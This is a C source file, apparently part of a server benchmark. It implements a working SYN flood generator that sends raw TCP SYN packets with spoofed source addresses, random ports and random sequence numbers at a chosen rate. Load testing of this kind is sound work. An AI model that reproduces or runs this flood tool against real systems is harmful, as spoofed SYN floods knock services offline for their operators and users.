/* SYN flood generator of the SYN-flood benchmark (bench/synflood.sh):
 * raw IPv4+TCP SYNs to DSTIP:PORT from spoofed sources (POOL addresses
 * counting up from SRCBASE), random source ports and sequence numbers,
 * at RATE SYNs per second (0 = as fast as the raw socket takes them) for
 * SECONDS.  Batches of sendmmsg on an IPPROTO_RAW socket (the kernel
 * routes them and resolves the destination's MAC).  Prints one
 * key=value line per figure.
 *
 *   syn-flood -d DSTIP -p PORT -s SRCBASE -n POOL -r RATE -t SECONDS
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PKT 40 /* IPv4 header + TCP header, no options */

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t s)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint32_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

/* The i-th SYN: source SRCBASE + i % POOL. */
static void build(uint8_t *f, uint32_t src, uint32_t dst, uint16_t port, uint32_t id)
{
	uint8_t *t = f + 20;
	memset(f, 0, PKT);
	f[0] = 0x45;
	put16(f + 2, PKT);
	put16(f + 4, (uint16_t)id);
	f[8] = 64;
	f[9] = IPPROTO_TCP;
	put32(f + 12, src);
	put32(f + 16, dst);
	put16(f + 10, fold(sum16(f, 20, 0)));
	put16(t, (uint16_t)(1024 + rnd() % 60000));
	put16(t + 2, port);
	put32(t + 4, rnd());
	t[12] = 5 << 4;
	t[13] = 0x02; /* SYN */
	put16(t + 14, 64240);
	uint32_t s = sum16(f + 12, 8, 0) + IPPROTO_TCP + 20;
	put16(t + 16, fold(sum16(t, 20, s)));
}

static void usage(void)
{
	fprintf(stderr, "usage: syn-flood -d DSTIP -p PORT -s SRCBASE -n POOL -r RATE -t SECONDS\n");
	exit(2);
}

int main(int argc, char **argv)
{
	struct in_addr dst = { 0 }, base = { 0 };
	long port = 0, pool = 150, rate = 0;
	double secs = 1;
	int o;
	while ((o = getopt(argc, argv, "d:p:s:n:r:t:")) != -1) {
		switch (o) {
		case 'd': if (!inet_aton(optarg, &dst)) usage(); break;
		case 's': if (!inet_aton(optarg, &base)) usage(); break;
		case 'p': port = strtol(optarg, NULL, 10); break;
		case 'n': pool = strtol(optarg, NULL, 10); break;
		case 'r': rate = strtol(optarg, NULL, 10); break;
		case 't': secs = strtod(optarg, NULL); break;
		default: usage();
		}
	}
	if (!dst.s_addr || !base.s_addr || port <= 0 || port > 65535 || pool <= 0 || rate < 0 || secs <= 0)
		usage();
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("syn-flood: socket(AF_INET, SOCK_RAW)");
		return 1;
	}
	static uint8_t pkts[BATCH][PKT];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = dst };
	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){ .iov_base = pkts[i], .iov_len = PKT };
		msgs[i].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof(to),
						   .msg_iov = &iov[i], .msg_iovlen = 1 };
	}
	uint32_t b = ntohl(base.s_addr), d = ntohl(dst.s_addr);
	uint64_t sent = 0, errors = 0;
	double t0 = now_s(), t = t0;
	while ((t = now_s()) - t0 < secs) {
		uint64_t due = rate ? (uint64_t)((t - t0) * (double)rate) + 1 : sent + BATCH;
		if (sent >= due) {
			struct timespec nap = { 0, 100000 };
			nanosleep(&nap, NULL);
			continue;
		}
		unsigned n = due - sent < BATCH ? (unsigned)(due - sent) : BATCH;
		for (unsigned i = 0; i < n; i++)
			build(pkts[i], b + (uint32_t)((sent + i) % (uint64_t)pool), d, (uint16_t)port,
			      (uint32_t)(sent + i));
		int r = sendmmsg(fd, msgs, n, 0);
		if (r < 0) {
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("syn-flood: sendmmsg");
				return 1;
			}
			errors++;
			continue;
		}
		sent += (uint64_t)r;
	}
	double el = now_s() - t0;
	printf("sent=%llu\nseconds=%.3f\nrate=%.0f\nsend_errors=%llu\n", (unsigned long long)sent, el,
	       (double)sent / el, (unsigned long long)errors);
	return 0;
}
